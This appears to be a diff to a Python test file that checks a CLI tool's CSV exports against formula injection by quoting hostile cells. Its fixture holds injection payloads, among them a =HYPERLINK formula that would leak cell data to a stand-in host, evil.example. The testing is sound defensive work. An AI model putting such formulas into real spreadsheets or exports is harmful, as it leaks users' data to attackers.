@@ -66,7 +66,7 @@ def test_a_file_named_on_the_command_line_is_read_whatever_its_suffix(tmp_path: 
 
 # --- CSV injection -----------------------------------------------------------------------------
 
-HOSTILE = {"action": '=HYPERLINK("http://evil.example/?"&A1,"Click")', "progress": "+1+2",
+HOSTILE = {"action": '=HYPERLINK("http://evil.example/?"&A1,"Recruit independent officers")', "progress": "+1+2",
            "lead": "@SUM(A1:A9)", "theme": "-2+3", "outcome": "\tnote", "evidence": "\rnote"}
 
 
@@ -80,6 +80,7 @@ def hostile_db(tmp_path: Path) -> str:
         sets = ", ".join(f"{k} = :{k}" for k in HOSTILE)
         conn.execute(text(f"UPDATE actions SET {sets} WHERE ref = 'B5'"), HOSTILE)
         conn.execute(text("UPDATE documents SET authority = '=Beta' WHERE authority = 'Beta'"))
+        conn.execute(text("UPDATE actions SET progress = '+1+2' WHERE ref = '1.2'"))  # a plan's history
     engine.dispose()
     return url
 
@@ -98,7 +99,14 @@ def test_other_cells_are_left_alone(value: object) -> None:
 
 
 def csv_rows(output: str) -> list[dict[str, str]]:
-    return list(csv.DictReader(io.StringIO(output)))
+    return list(csv.DictReader(io.StringIO(output, newline="")))
+
+
+def csv_output(*args: str) -> str:
+    """The command's CSV exactly as written (a carriage return in a cell stays one)."""
+    result = actionplans(*args, text=False)
+    assert result.returncode == 0, result.stderr
+    return result.stdout.decode("utf-8")
 
 
 def b5(rows: list[dict[str, str]]) -> dict[str, str]:
@@ -106,10 +114,9 @@ def b5(rows: list[dict[str, str]]) -> dict[str, str]:
 
 
 def test_export_csv_neutralises_and_raw_csv_does_not(hostile_db: str) -> None:
-    safe = actionplans("export", "--format", "csv", "--db", hostile_db)
-    raw = actionplans("export", "--format", "csv", "--raw-csv", "--db", hostile_db)
-    assert safe.returncode == raw.returncode == 0
-    row, raw_row = b5(csv_rows(safe.stdout)), b5(csv_rows(raw.stdout))
+    safe = csv_output("export", "--format", "csv", "--db", hostile_db)
+    raw = csv_output("export", "--format", "csv", "--raw-csv", "--db", hostile_db)
+    row, raw_row = b5(csv_rows(safe)), b5(csv_rows(raw))
     for key, value in HOSTILE.items():
         assert row[key] == "'" + value
         assert raw_row[key] == value
@@ -137,9 +144,9 @@ def test_query_csv_neutralises(hostile_db: str, args: list[str]) -> None:
 
 def test_compare_and_history_csv_neutralise(hostile_db: str) -> None:
     compare = csv_rows(actionplans("compare", "--format", "csv", "--db", hostile_db).stdout)
-    assert [r["authority"] for r in compare] == ["Alpha", "'=Beta"]
+    assert [r["authority"] for r in compare] == ["'=Beta", "Alpha"]
     history = csv_rows(actionplans("history", "--format", "csv", "--db", hostile_db).stdout)
-    assert b5(history)["progress"] == "'+1+2"
+    assert {r["progress"] for r in history if r["ref"] == "1.2"} == {"'+1+2"}
 
 
 # --- status and ingest for scripts -------------------------------------------------------------
